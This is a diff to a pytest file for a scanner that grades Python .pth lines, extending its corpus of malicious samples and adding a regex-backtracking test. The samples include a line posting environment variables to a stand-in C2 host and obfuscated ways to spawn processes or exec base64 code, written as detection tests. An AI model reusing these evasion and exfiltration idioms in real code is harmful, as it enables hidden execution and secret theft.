@@ -11,6 +11,7 @@ from typing import Any, FrozenSet, List, Optional, Sequence, Tuple, cast
 
 import pytest
 
+from sitesweep.checks import pth_grader
 from sitesweep.checks.pth_grader import (
     BENIGN_PATTERNS,
     HIGH_FEATURES,
@@ -317,6 +318,23 @@ MALICIOUS: List[Tuple[str, str, FrozenSet[Feature]]] = [
         "import os, requests; requests.post('https://c2.example.invalid/', json=dict(os.environ))",
         frozenset({F.NETWORK, F.ENV_HARVEST}),
     ),
+    ("module-alias", "import os as o; o.system('id')", frozenset({F.SPAWN_PROCESS})),
+    ("vars-lookup", "import os; vars(os)['system']('id')", frozenset({F.SPAWN_PROCESS})),
+    (
+        "sys-modules-lookup",
+        "import sys; sys.modules['os'].system('id')",
+        frozenset({F.SPAWN_PROCESS}),
+    ),
+    (
+        "import-module-chain",
+        "import importlib; importlib.import_module('subprocess').run(['id'])",
+        frozenset({F.SPAWN_PROCESS, F.DYNAMIC_IMPORT}),
+    ),
+    (
+        "builtins-dict-exec",
+        "import builtins, base64; vars(builtins)['exec'](base64.b64decode('cHJpbnQoMSk='))",
+        frozenset({F.DECODE_EXEC}),
+    ),
     (
         "builtins-exec-b64",
         "import base64, builtins; builtins.exec(base64.b64decode('cHJpbnQoMSk='))",
@@ -446,10 +464,17 @@ def test_benign_patterns_are_auditable() -> None:
     names = [p.name for p in BENIGN_PATTERNS]
     assert len(names) == len(set(names))
     assert set(names) == {b[2] for b in BENIGN}, "every pattern needs a corpus line"
-    for pattern in BENIGN_PATTERNS:
-        assert pattern.shipped_by
-        # No quantified group: `(...)*`, `(...)+` or `(...){n,}` could backtrack catastrophically.
-        assert not re.search(r"\)[*+{]", pattern.regex.pattern), pattern.name
+    assert all(pattern.shipped_by for pattern in BENIGN_PATTERNS)
+
+
+def test_no_regex_repeats_a_group() -> None:
+    """A repeated group (`(...)*`, `(...)+`, `(...){n,}`) is how regexes backtrack forever."""
+    patterns = [v for v in vars(pth_grader).values() if isinstance(v, re.Pattern)]
+    patterns += [p.regex for p in BENIGN_PATTERNS]
+    patterns += [rule[2] for rule in pth_grader._FALLBACK_RULES]
+    assert len(patterns) > len(BENIGN_PATTERNS)
+    for pattern in patterns:
+        assert not re.search(r"(?<!\\)\)[*+{]", pattern.pattern), pattern.pattern
 
 
 def test_find_benign_pattern_requires_the_whole_line() -> None:
